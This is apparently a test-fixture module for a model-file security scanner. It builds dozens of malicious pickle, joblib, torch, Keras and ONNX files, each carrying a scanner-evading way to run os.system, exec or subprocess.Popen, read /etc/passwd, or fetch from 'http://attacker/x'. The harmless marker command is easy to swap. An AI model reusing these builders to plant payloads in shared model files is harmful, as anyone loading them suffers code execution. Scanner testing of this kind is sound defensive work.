"""Builders of malicious model files, made at test time from the techniques in the research note.

Every payload would run ``touch <marker>`` (or open a file) if loaded; the tests assert that
scanning them leaves no marker and refuses each with the expected reason code. The benchmark
script runs the same set through other scanners.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import re
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

PROTO = b"\x80"
STOP = b"."
REDUCE = b"R"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
MARK = b"("
TUPLE = b"t"
EMPTY_DICT = b"}"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
BUILD = b"b"
NEWOBJ = b"\x81"
EMPTY_TUPLE = b")"
SETITEMS = b"u"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    raw = s.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def proto(n: int = 2) -> bytes:
    return PROTO + bytes([n])


def call(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` as opcodes (no PROTO, no STOP)."""
    body = glob(module, name) + MARK + b"".join(text(a) for a in args) + TUPLE + REDUCE
    return body


def system(cmd: str, proto_n: int = 2) -> bytes:
    return proto(proto_n) + call("os", "system", cmd) + STOP


class _Evil:
    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (self.cmd,))


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Callable[[str], bytes]
    code: str
    technique: str


# -- pickle ---------------------------------------------------------------------------------------


def _stack_global_dotted(cmd: str) -> bytes:
    return (
        proto(4)
        + text("pathlib")
        + text("os.system")
        + STACK_GLOBAL
        + text(cmd)
        + TUPLE1
        + REDUCE
        + STOP
    )


def _stack_global_memo(cmd: str) -> bytes:
    # Strings stored in the memo, fetched with BINGET, then STACK_GLOBAL.
    return (
        proto(4)
        + text("os")
        + MEMOIZE
        + b"0"
        + text("system")
        + MEMOIZE
        + b"0"
        + b"h\x00"
        + b"h\x01"
        + STACK_GLOBAL
        + text(cmd)
        + TUPLE1
        + REDUCE
        + STOP
    )


def _stack_global_nonstring(cmd: str) -> bytes:
    return proto(4) + EMPTY_TUPLE + text("system") + STACK_GLOBAL + STOP


def _importlib_getattr_static(cmd: str) -> bytes:
    os_mod = call("importlib", "import_module", "os")
    return (
        proto(2)
        + glob("inspect", "getattr_static")
        + MARK
        + os_mod
        + text("system")
        + TUPLE
        + REDUCE
        + MARK
        + text(cmd)
        + TUPLE
        + REDUCE
        + STOP
    )


def _methodcaller_locate(cmd: str) -> bytes:
    return (
        proto(2)
        + glob("operator", "methodcaller")
        + MARK
        + text("__call__")
        + text(cmd)
        + TUPLE
        + REDUCE
        + MARK
        + call("pydoc", "locate", "os.system")
        + TUPLE
        + REDUCE
        + STOP
    )


def _resolve_name(cmd: str) -> bytes:
    return (
        proto(2)
        + call("pkgutil", "resolve_name", "os:system")
        + MARK
        + text(cmd)
        + TUPLE
        + REDUCE
        + STOP
    )


def _inst(cmd: str) -> bytes:
    return proto(2) + MARK + text(cmd) + b"ios\nsystem\n" + STOP


def _obj(cmd: str) -> bytes:
    return proto(2) + MARK + glob("os", "system") + text(cmd) + b"o" + STOP


def _ext1(cmd: str) -> bytes:
    return proto(2) + b"\x82\x01" + MARK + text(cmd) + TUPLE + REDUCE + STOP


def _frame_desync(cmd: str) -> bytes:
    # A frame that ends inside a BINBYTES payload: readers disagree on what follows.
    hidden = call("os", "system", cmd) + b"0"
    binbytes = b"B" + struct.pack("<I", len(hidden)) + hidden
    frame_body = b"N0" + binbytes[:8]
    return (
        proto(4)
        + b"\x95"
        + struct.pack("<Q", len(frame_body))
        + frame_body
        + binbytes[8:]
        + b"N"
        + STOP
    )


def _int_desync(cmd: str) -> bytes:
    return proto(2) + b"I0x10\n" + b"0" + call("os", "system", cmd) + STOP


def _second_pickle(cmd: str) -> bytes:
    return pickle.dumps({"ok": 1}, protocol=4) + system(cmd)


def _misplaced_proto(cmd: str) -> bytes:
    return proto(2) + b"N0" + proto(2) + call("os", "system", cmd) + STOP


def _broken_after_payload(cmd: str) -> bytes:
    return proto(2) + call("os", "system", cmd) + b"\xff\xfe garbage"


def _unknown_opcode(cmd: str) -> bytes:
    return proto(2) + b"\xf0" + call("os", "system", cmd) + STOP


def _build_on_class(cmd: str) -> bytes:
    # BUILD on a class itself (setattr on numpy.dtype), the modelscan #85 gadget shape.
    return proto(2) + glob("numpy", "dtype") + MARK + b"N" + EMPTY_DICT + TUPLE + BUILD + STOP


def _numpy_builtins(cmd: str) -> bytes:
    return proto(2) + glob("numpy", "__builtins__") + STOP


def _newobj_on_function(cmd: str) -> bytes:
    return proto(2) + glob("numpy._core.multiarray", "_reconstruct") + EMPTY_TUPLE + NEWOBJ + STOP


def _setitems_on_estimator(cmd: str) -> bytes:
    cls = glob("sklearn.linear_model._logistic", "LogisticRegression")
    return proto(2) + cls + EMPTY_TUPLE + NEWOBJ + MARK + text("a") + text("b") + SETITEMS + STOP


def _listed_name_in_wrong_role(cmd: str) -> bytes:
    # newObj(cls) is cls.__new__(cls): both names are allowlisted, but not in this pairing.
    return (
        proto(2)
        + glob("sklearn.neighbors._kd_tree", "newObj")
        + glob("sklearn.tree._tree", "Tree")
        + TUPLE1
        + REDUCE
        + STOP
    )


def _marshal_function(cmd: str) -> bytes:
    return proto(2) + call("marshal", "loads", "xxxx") + STOP


def _persid(cmd: str) -> bytes:
    return proto(2) + b"Pos.system\n" + STOP


def _protocol0(cmd: str) -> bytes:
    return pickle.dumps(_Evil(cmd), protocol=0)


def _torch_gadget(cmd: str) -> bytes:
    return proto(2) + call("torch.serialization", "load", "/tmp/x") + STOP


def _runpy(cmd: str) -> bytes:
    return proto(2) + call("runpy", "_run_code", cmd, "{}") + STOP


def _asyncio_submodule(cmd: str) -> bytes:
    return proto(2) + call("asyncio.unix_events", "_UnixSubprocessTransport", cmd) + STOP


def _builtins_getattr(cmd: str) -> bytes:
    return proto(2) + call("builtins", "getattr", "x", "y") + STOP


def _exec(cmd: str) -> bytes:
    return proto(2) + call("builtins", "exec", f"import os; os.system({cmd!r})") + STOP


def _reduce_on_value(cmd: str) -> bytes:
    # REDUCE on a string: the callee must be an allowlisted name, never a computed value.
    return proto(2) + text("os.system") + MARK + text(cmd) + TUPLE + REDUCE + STOP


# -- joblib ---------------------------------------------------------------------------------------


def _joblib(obj: object, compress: object = 0) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)  # type: ignore[arg-type]
    return buf.getvalue()


def _joblib_compressed(method: str) -> Callable[[str], bytes]:
    def build(cmd: str) -> bytes:
        return _joblib({"model": _Evil(cmd)}, (method, 3))

    return build


def _joblib_after_array(cmd: str) -> bytes:
    return _joblib({"weights": np.arange(64, dtype=np.float64), "z": _Evil(cmd)})


def _joblib_object_array(cmd: str) -> bytes:
    arr = np.empty(2, dtype=object)
    arr[0] = "fine"
    arr[1] = _Evil(cmd)
    return _joblib({"a": arr})


def _joblib_bad_padding(cmd: str) -> bytes:
    # A padding length past the alignment shifts where joblib reads the array data from.
    raw = bytearray(_joblib({"w": np.arange(8, dtype=np.float64)}))
    for n in range(1, 17):
        idx = raw.find(b"b" + bytes([n]) + b"\xff" * n)
        if idx >= 0:
            raw[idx + 1] = 0x30
            return bytes(raw)
    raise AssertionError("no array padding found")


def _gzip_two_members(cmd: str) -> bytes:
    return gzip.compress(pickle.dumps({"ok": 1}, protocol=4)) + gzip.compress(system(cmd))


def _unaligned_joblib_pkl(cmd: str) -> bytes:
    """A joblib <= 1.1 style array record whose "array bytes" are opcodes for pickle.load.

    joblib.load reads them as array data; plain unpickling runs them.
    """
    payload = call("os", "system", cmd) + STOP
    state = (
        EMPTY_DICT + MARK
        + text("subclass") + glob("numpy", "ndarray")
        + text("shape") + b"K" + bytes([len(payload)]) + TUPLE1
        + text("order") + text("C")
        + text("dtype") + glob("numpy", "dtype") + text("u1") + b"\x89\x88\x87" + REDUCE
        + text("allow_mmap") + b"\x89"
        + SETITEMS
    )  # fmt: skip
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    return proto(2) + wrapper + state + BUILD + payload + STOP


def _bomb(cmd: str) -> bytes:
    return zlib.compress(pickle.dumps(b"\x00" * (80 << 20), protocol=4), 9)


# -- torch ----------------------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]], **kw: object) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name), data)
    return buf.getvalue()


def _torch_members(cmd: str) -> list[tuple[str, bytes]]:
    return [("archive/data.pkl", system(cmd)), ("archive/version", b"3\n"),
            ("archive/byteorder", b"little")]  # fmt: skip


def _torch_zip_payload(cmd: str) -> bytes:
    return _zip(_torch_members(cmd))


def _benign_pkl() -> bytes:
    return proto(2) + b"}" + STOP


def _torch_duplicate(cmd: str) -> bytes:
    # miniz (torch.load) takes the first of two same-named members, Python's zipfile the last.
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _zip(
            [
                ("archive/data.pkl", system(cmd)),
                ("archive/data.pkl", _benign_pkl()),
                ("archive/version", b"3\n"),
            ]
        )


def _torch_case(cmd: str) -> bytes:
    return _zip([("archive/data.pkl", _benign_pkl()), ("archive/DATA.PKL", system(cmd)),
                 ("archive/version", b"3\n")])  # fmt: skip


def _torch_bad_crc(cmd: str) -> bytes:
    raw = bytearray(_zip(_torch_members(cmd)))
    cd = raw.rindex(b"PK\x01\x02")
    raw[cd + 16] ^= 0xFF  # CRC in the central directory
    lf = raw.index(b"PK\x03\x04")
    raw[lf + 14] ^= 0xFF  # and in the local header, so only the data disagrees
    return bytes(raw)


def _torch_encrypted(cmd: str) -> bytes:
    raw = bytearray(_zip(_torch_members(cmd)))
    for sig, off in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        pos = raw.index(sig)
        raw[pos + off] |= 1
    return bytes(raw)


def _torch_traversal(cmd: str) -> bytes:
    return _zip([("archive/../data.pkl", system(cmd)), ("archive/version", b"3\n")])


def _torch_prepended(cmd: str) -> bytes:
    return b"\x00" * 16 + _zip(_torch_members(cmd))


def _torch_legacy_fourth(cmd: str) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return magic + version + sys_info + system(cmd) + pickle.dumps([], protocol=2)


def _torch_raw_pickle(cmd: str) -> bytes:
    return system(cmd)


def _torch_hidden_storage(cmd: str) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    members = _read_members(buf.getvalue())
    prefix = members[0][0].split("/")[0]
    members.append((f"{prefix}/data/7", system(cmd)))
    return _zip(members)


def _torch_storage_size(cmd: str) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buf)
    members = [(n, d + (system(cmd) if n.endswith("data/0") else b"")) for n, d in
               _read_members(buf.getvalue())]  # fmt: skip
    return _zip(members)


def _read_members(raw: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _export_file_op(op: str) -> Callable[[str], bytes]:
    """A real torch.export archive whose graph's relu is swapped for an ATen op that reads a
    file (``torch.export.load`` rebuilds the graph and the op runs on the first request)."""

    def build(cmd: str) -> bytes:
        import torch

        class Tiny(torch.nn.Module):
            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return torch.relu(x)

        buf = io.BytesIO()
        torch.export.save(torch.export.export(Tiny(), (torch.zeros(2),)), buf)
        swapped = f"torch.ops.aten.{op}.default".encode()
        return _zip([(n, d.replace(b"torch.ops.aten.relu.default", swapped))
                     for n, d in _read_members(buf.getvalue())])  # fmt: skip

    return build


def _torchscript_call(call: str) -> Callable[[str], bytes]:
    """A real TorchScript archive whose forward's ``torch.add(x, 1)`` is swapped for ``call``."""

    def build(cmd: str) -> bytes:
        import torch

        class Tiny(torch.nn.Module):
            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x + 1

        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(Tiny()), buf)
        members = []
        for name, data in _read_members(buf.getvalue()):
            if name.endswith(".py") and b"def forward" in data:
                data = re.sub(rb"torch\.add\(x, 1\)", call.encode(), data)
            members.append((name, data))
        return _zip(members)

    return build


def _export_target(cmd: str) -> bytes:
    graph = {
        "graph_module": {
            "graph": {
                "nodes": [
                    {
                        "target": "builtins.exec",
                        "inputs": [{"name": "x", "arg": {"as_string": cmd}}],
                    }
                ]
            }
        }
    }
    return _zip([("ep/archive_format", b"pt2"), ("ep/models/model.json",
                 json.dumps(graph).encode())])  # fmt: skip


# -- wrappers and polyglots ---------------------------------------------------------------


def _tar(cmd: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        data = system(cmd)
        info = tarfile.TarInfo("model.pkl")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _sevenzip(cmd: str) -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + system(cmd)


def _gzip_pt(cmd: str) -> bytes:
    return gzip.compress(_zip(_torch_members(cmd)))


def _polyglot_zip(cmd: str) -> bytes:
    return pickle.dumps({"ok": 1}, protocol=4) + _zip(_torch_members(cmd))


# -- keras ----------------------------------------------------------------------------------------


def _h5(config: dict[str, Any], *, training: dict[str, object] | None = None,
        external: bool = False) -> bytes:  # fmt: skip
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.21.0"
        if training is not None:
            f.attrs["training_config"] = json.dumps(training)
        f.create_group("model_weights")
        if external:
            f["model_weights/leak"] = h5py.ExternalLink("/etc/passwd", "/")
    return buf.getvalue()


def _dense(name: str = "d") -> dict[str, object]:
    return {"class_name": "Dense", "config": {"name": name, "units": 2, "activation": "relu"}}


def _lambda(cmd: str) -> dict[str, object]:
    return {"class_name": "Lambda", "config": {"name": "l", "function": {
        "class_name": "__lambda__", "config": {"code": cmd}}}}  # fmt: skip


def _seq(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}


def _keras_top_lambda(cmd: str) -> bytes:
    return _h5(_seq([_dense(), _lambda(cmd)]))


def _keras_nested_lambda(cmd: str) -> bytes:
    return _h5(_seq([_dense(), _seq([_dense("e"), _lambda(cmd)])]))


def _keras_timedistributed(cmd: str) -> bytes:
    return _h5(_seq([{"class_name": "TimeDistributed", "config": {"layer": _lambda(cmd)}}]))


def _keras_torch_wrapper(cmd: str) -> bytes:
    return _h5(_seq([{"class_name": "TorchModuleWrapper", "config": {"module": "x"}}]))


def _keras_module(cmd: str) -> bytes:
    return _h5(_seq([{"module": "subprocess", "class_name": "Popen", "config": {"args": cmd}}]))


def _keras_get_file(cmd: str) -> bytes:
    # CVE-2025-8747: a Keras utility function named as a layer in the config.
    return _h5(_seq([{"module": "keras.utils", "class_name": "get_file",
                      "config": {"origin": "http://attacker/x", "fname": "/tmp/x"}}]))  # fmt: skip


def _keras_unsafe_switch(cmd: str) -> bytes:
    # CVE-2025-9906: turn safe mode off from inside the config, then a Lambda.
    switch = {"module": "keras.config", "class_name": "enable_unsafe_deserialization",
              "config": {}}  # fmt: skip
    return _h5(_seq([switch, _dense()]))


def _keras_registered_custom(cmd: str) -> bytes:
    layer = {"module": None, "class_name": "Dense", "registered_name": "evil_pkg>Dense",
             "config": {"units": 1}}  # fmt: skip
    return _h5(_seq([layer]))


def _keras_function_object(cmd: str) -> bytes:
    fn = {"module": "os", "class_name": "function", "config": "system", "registered_name": None}
    return _h5(_seq([{"class_name": "Dense", "config": {"units": 1, "activation": fn}}]))


def _keras_external_link(cmd: str) -> bytes:
    return _h5(_seq([_dense()]), external=True)


def _keras_training_loss(cmd: str) -> bytes:
    return _h5(_seq([_dense()]), training={"loss": "my_package.evil_loss"})


def _keras_archive(config: dict[str, Any], *extra: tuple[str, bytes]) -> bytes:
    """A ``.keras`` archive as Keras 3 writes it (stored members, metadata first)."""
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        f.create_group("layers")
        f.create_group("vars")
    metadata = {"keras_version": "3.15.1", "date_saved": "2026-11-30@12:00:00"}
    return _zip([("metadata.json", json.dumps(metadata).encode()),
                 ("config.json", json.dumps(config).encode()),
                 ("model.weights.h5", weights.getvalue()), *extra])  # fmt: skip


def _keras_archive_lambda(cmd: str) -> bytes:
    return _keras_archive(_seq([_dense(), _lambda(cmd)]))


def _keras_archive_custom(cmd: str) -> bytes:
    layer = {"module": "evil_pkg.layers", "class_name": "Shell", "registered_name": "evil>Shell",
             "config": {"command": cmd}}  # fmt: skip
    return _keras_archive(_seq([_dense(), layer]))


def _keras_archive_module(cmd: str) -> bytes:
    return _keras_archive(
        _seq([{"module": "subprocess", "class_name": "Popen", "config": {"args": cmd}}])
    )


def _keras_archive_extra_member(cmd: str) -> bytes:
    return _keras_archive(_seq([_dense()]), ("assets/vocabulary.pkl", system(cmd)))


def _keras_archive_torch(cmd: str) -> bytes:
    return _torch_zip_payload(cmd)


# -- onnx -----------------------------------------------------------------------------------------


def _onnx_model(
    nodes: list[Any], opsets: list[tuple[str, int]], inits: list[Any] | None = None
) -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], initializer=inits or [],
    )  # fmt: skip
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
    return bytes(model.SerializeToString())


def _onnx_external(cmd: str) -> bytes:
    from onnx import TensorProto, helper

    t = helper.make_tensor("w", TensorProto.FLOAT, [1], [1.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    entry = t.external_data.add()
    entry.key, entry.value = "location", "../../../../etc/passwd"
    node = helper.make_node("Add", ["x", "w"], ["y"])
    return _onnx_model([node], [("", 17)], [t])


def _onnx_custom_domain(cmd: str) -> bytes:
    from onnx import helper

    node = helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")
    return _onnx_model([node], [("", 17), ("ai.onnx.contrib", 1)])


def _onnx_opset(cmd: str) -> bytes:
    from onnx import helper

    return _onnx_model([helper.make_node("Identity", ["x"], ["y"])], [("", 999)])


def _onnx_subgraph(cmd: str) -> bytes:
    from onnx import TensorProto, helper

    inner = helper.make_graph(
        [helper.make_node("Shell", ["x"], ["z"], domain="evil")], "then", [],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1])],
    )  # fmt: skip
    cond = helper.make_node(
        "Constant", [], ["c"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])
    )
    node = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
    return _onnx_model([cond, node], [("", 17)])


def _onnx_unknown_op(cmd: str) -> bytes:
    from onnx import helper

    return _onnx_model([helper.make_node("RunShellCommand", ["x"], ["y"])], [("", 17)])


CASES: list[Case] = [
    Case("os.system", "m.pkl", system, "disallowed_global", "baseline os.system"),
    Case("builtins.exec", "m.pkl", _exec, "disallowed_global", "builtins.exec"),
    Case("builtins.getattr", "m.pkl", _builtins_getattr, "disallowed_global", "getattr gadget"),
    Case(
        "dotted-stack-global",
        "m.pkl",
        _stack_global_dotted,
        "disallowed_global",
        "STACK_GLOBAL pathlib / os.system",
    ),
    Case(
        "stack-global-memo",
        "m.pkl",
        _stack_global_memo,
        "disallowed_global",
        "STACK_GLOBAL names through the memo",
    ),
    Case(
        "stack-global-nonstring",
        "m.pkl",
        _stack_global_nonstring,
        "unresolved_global",
        "STACK_GLOBAL from a non-string",
    ),
    Case(
        "importlib-getattr-static",
        "m.pkl",
        _importlib_getattr_static,
        "disallowed_global",
        "importlib.import_module + inspect.getattr_static",
    ),
    Case(
        "methodcaller-locate",
        "m.pkl",
        _methodcaller_locate,
        "disallowed_global",
        "operator.methodcaller + pydoc.locate",
    ),
    Case(
        "pkgutil-resolve-name",
        "m.pkl",
        _resolve_name,
        "disallowed_global",
        "pkgutil.resolve_name('os:system')",
    ),
    Case("runpy", "m.pkl", _runpy, "disallowed_global", "runpy._run_code"),
    Case(
        "asyncio-submodule",
        "m.pkl",
        _asyncio_submodule,
        "disallowed_global",
        "submodule of a denylisted module",
    ),
    Case("marshal", "m.pkl", _marshal_function, "disallowed_global", "marshal.loads"),
    Case("torch-gadget", "m.pkl", _torch_gadget, "disallowed_global", "torch.serialization.load"),
    Case(
        "numpy-builtins",
        "m.pkl",
        _numpy_builtins,
        "disallowed_global",
        "numpy.__builtins__ getitem gadget",
    ),
    Case("inst", "m.pkl", _inst, "disallowed_opcode", "INST opcode"),
    Case("obj", "m.pkl", _obj, "disallowed_opcode", "OBJ opcode"),
    Case("ext1", "m.pkl", _ext1, "disallowed_opcode", "EXT1 copyreg extension"),
    Case("persid", "m.pkl", _persid, "disallowed_opcode", "PERSID in a plain pickle"),
    Case("protocol-0", "m.pkl", _protocol0, "disallowed_opcode", "protocol 0 text pickle"),
    Case("frame-desync", "m.pkl", _frame_desync, "frame_violation", "FRAME desync"),
    Case("int-desync", "m.pkl", _int_desync, "disallowed_opcode", "INT 0x10 desync"),
    Case("second-pickle", "m.pkl", _second_pickle, "extra_pickle", "payload in a 2nd pickle"),
    Case("misplaced-proto", "m.pkl", _misplaced_proto, "misplaced_proto", "PROTO mid-stream"),
    Case(
        "broken-after-payload",
        "m.pkl",
        _broken_after_payload,
        "disallowed_global",
        "broken stream after the payload (nullifAI)",
    ),
    Case("unknown-opcode", "m.pkl", _unknown_opcode, "malformed", "unknown opcode"),
    Case(
        "build-on-class", "m.pkl", _build_on_class, "disallowed_build", "BUILD setattr on a class"
    ),
    Case(
        "newobj-on-function",
        "m.pkl",
        _newobj_on_function,
        "disallowed_call",
        "NEWOBJ of a call-only function",
    ),
    Case(
        "setitems-on-object",
        "m.pkl",
        _setitems_on_estimator,
        "disallowed_mutation",
        "SETITEMS on a non-dict object",
    ),
    Case("reduce-on-value", "m.pkl", _reduce_on_value, "disallowed_call", "REDUCE on a string"),
    Case(
        "name-in-wrong-role",
        "m.pkl",
        _listed_name_in_wrong_role,
        "disallowed_call",
        "allowlisted class passed to an allowlisted constructor helper",
    ),
    Case(
        "joblib-zlib",
        "m.joblib",
        _joblib_compressed("zlib"),
        "disallowed_global",
        "compressed joblib (zlib)",
    ),
    Case(
        "joblib-gzip",
        "m.joblib",
        _joblib_compressed("gzip"),
        "disallowed_global",
        "compressed joblib (gzip)",
    ),
    Case(
        "joblib-bz2",
        "m.joblib",
        _joblib_compressed("bz2"),
        "disallowed_global",
        "compressed joblib (bz2)",
    ),
    Case(
        "joblib-xz",
        "m.joblib",
        _joblib_compressed("xz"),
        "disallowed_global",
        "compressed joblib (xz)",
    ),
    Case(
        "joblib-lzma",
        "m.joblib",
        _joblib_compressed("lzma"),
        "disallowed_global",
        "compressed joblib (lzma)",
    ),
    Case(
        "joblib-lz4",
        "m.joblib",
        _joblib_compressed("lz4"),
        "disallowed_global",
        "compressed joblib (lz4)",
    ),
    Case(
        "joblib-after-array",
        "m.joblib",
        _joblib_after_array,
        "disallowed_global",
        "payload after an ndarray",
    ),
    Case(
        "joblib-object-array",
        "m.joblib",
        _joblib_object_array,
        "disallowed_global",
        "payload inside an object array",
    ),
    Case(
        "joblib-bad-padding",
        "m.joblib",
        _joblib_bad_padding,
        "bad_array_record",
        "array padding that shifts the stream",
    ),
    Case("gzip-two-members", "m.joblib", _gzip_two_members, "malformed", "second gzip member"),
    Case(
        "unaligned-joblib-pkl",
        "m.pkl",
        _unaligned_joblib_pkl,
        "bad_array_record",
        "array bytes that plain unpickling runs as opcodes (.pkl)",
    ),
    Case("torch-zip-payload", "m.pt", _torch_zip_payload, "disallowed_global", "data.pkl payload"),
    Case("torch-duplicate", "m.pt", _torch_duplicate, "zip_violation", "duplicate data.pkl"),
    Case("torch-case", "m.pt", _torch_case, "zip_violation", "upper-case DATA.PKL"),
    Case("torch-bad-crc", "m.pt", _torch_bad_crc, "zip_violation", "zip CRC mismatch"),
    Case("torch-encrypted", "m.pt", _torch_encrypted, "zip_violation", "encrypted flag bit"),
    Case("torch-traversal", "m.pt", _torch_traversal, "zip_violation", "'..' member name"),
    Case("torch-prepended", "m.pt", _torch_prepended, "unsupported_format", "bytes before the zip"),
    Case(
        "torch-legacy-4th",
        "m.pth",
        _torch_legacy_fourth,
        "disallowed_global",
        "legacy torch, payload in pickle #4",
    ),
    Case(
        "torch-raw-pickle", "m.pt", _torch_raw_pickle, "format_mismatch", "plain pickle named .pt"
    ),
    Case(
        "torch-hidden-storage",
        "m.pt",
        _torch_hidden_storage,
        "unexpected_member",
        "pickle hidden in an unreferenced storage",
    ),
    Case(
        "torch-storage-size",
        "m.pt",
        _torch_storage_size,
        "bad_persistent_id",
        "storage larger than declared",
    ),
    Case(
        "torchscript-custom-op",
        "m.pt",
        _torchscript_call("torch.ops.shell.run(x)"),
        "torchscript_call",
        "TorchScript call into a custom op namespace",
    ),
    Case("export-target", "m.pt", _export_target, "export_target", "export graph calls exec"),
    Case(
        "export-from-file",
        "m.pt2",
        _export_file_op("from_file"),
        "export_target",
        "export graph calls aten.from_file",
    ),
    Case(
        "export-load-from-file",
        "m.pt2",
        _export_file_op("_load_from_file"),
        "export_target",
        "export graph calls aten._load_from_file",
    ),
    Case(
        "torchscript-from-file",
        "m.pt",
        _torchscript_call('torch.from_file("/etc/passwd", False, 4)'),
        "torchscript_call",
        "TorchScript calls torch.from_file",
    ),
    Case(
        "torchscript-load-from-file",
        "m.pt",
        _torchscript_call('torch.ops.aten._load_from_file("/etc/passwd")'),
        "torchscript_call",
        "TorchScript calls aten._load_from_file",
    ),
    Case("tar-wrapper", "m.pkl", _tar, "wrapper_archive", "tar around a pickle"),
    Case("7z-wrapper", "m.pkl", _sevenzip, "wrapper_archive", "7z around a pickle"),
    Case("gzip-pt", "m.pt", _gzip_pt, "wrapper_archive", "gzip around a torch zip"),
    Case("polyglot-pickle-zip", "m.pkl", _polyglot_zip, "polyglot", "pickle + zip polyglot"),
    Case("keras-lambda", "m.h5", _keras_top_lambda, "keras_lambda", "top-level Lambda"),
    Case(
        "keras-nested-lambda",
        "m.h5",
        _keras_nested_lambda,
        "keras_lambda",
        "Lambda in a nested Sequential",
    ),
    Case(
        "keras-timedistributed",
        "m.h5",
        _keras_timedistributed,
        "keras_lambda",
        "Lambda inside TimeDistributed",
    ),
    Case(
        "keras-torch-wrapper",
        "m.h5",
        _keras_torch_wrapper,
        "keras_custom_object",
        "TorchModuleWrapper",
    ),
    Case("keras-module", "m.h5", _keras_module, "keras_custom_object", "module subprocess.Popen"),
    Case(
        "keras-get-file",
        "m.h5",
        _keras_get_file,
        "keras_unknown_class",
        "keras.utils.get_file in the config (CVE-2025-8747)",
    ),
    Case(
        "keras-unsafe-switch",
        "m.h5",
        _keras_unsafe_switch,
        "keras_unknown_class",
        "enable_unsafe_deserialization in the config (CVE-2025-9906)",
    ),
    Case(
        "keras-registered-custom",
        "m.h5",
        _keras_registered_custom,
        "keras_custom_object",
        "registered_name of a custom package",
    ),
    Case(
        "keras-function-object",
        "m.h5",
        _keras_function_object,
        "keras_custom_object",
        "function object from module os",
    ),
    Case("keras-external-link", "m.h5", _keras_external_link, "hdf5_link", "HDF5 ExternalLink"),
    Case(
        "keras-training-loss",
        "m.h5",
        _keras_training_loss,
        "keras_custom_object",
        "custom loss in training_config",
    ),
    Case("keras-archive-lambda", "m.keras", _keras_archive_lambda, "keras_lambda", "Lambda"),
    Case(
        "keras-archive-custom",
        "m.keras",
        _keras_archive_custom,
        "keras_custom_object",
        "custom layer from another package",
    ),
    Case(
        "keras-archive-module",
        "m.keras",
        _keras_archive_module,
        "keras_custom_object",
        "module subprocess.Popen",
    ),
    Case(
        "keras-archive-extra-member",
        "m.keras",
        _keras_archive_extra_member,
        "unexpected_member",
        "pickle as an extra member",
    ),
    Case(
        "keras-archive-torch",
        "m.keras",
        _keras_archive_torch,
        "format_mismatch",
        "torch archive named .keras",
    ),
    Case(
        "onnx-external",
        "m.onnx",
        _onnx_external,
        "onnx_external_data",
        "external data ../../etc/passwd",
    ),
    Case(
        "onnx-custom-domain",
        "m.onnx",
        _onnx_custom_domain,
        "onnx_custom_domain",
        "custom operator domain",
    ),
    Case("onnx-opset", "m.onnx", _onnx_opset, "onnx_opset", "unknown opset"),
    Case(
        "onnx-subgraph",
        "m.onnx",
        _onnx_subgraph,
        "onnx_custom_domain",
        "custom op inside an If subgraph",
    ),
    Case("onnx-unknown-op", "m.onnx", _onnx_unknown_op, "onnx_unknown_op", "unknown operator"),
]


def write_all(folder: Path, marker: Path) -> list[tuple[Case, Path]]:
    """Build every case into ``folder``; payloads would create ``marker``."""
    out = []
    cmd = f"touch {marker}"
    for case in CASES:
        path = folder / f"{case.name}-{case.filename}"
        path.write_bytes(case.build(cmd))
        out.append((case, path))
    return out


_ = (bz2, lzma)  # compressions are exercised through joblib
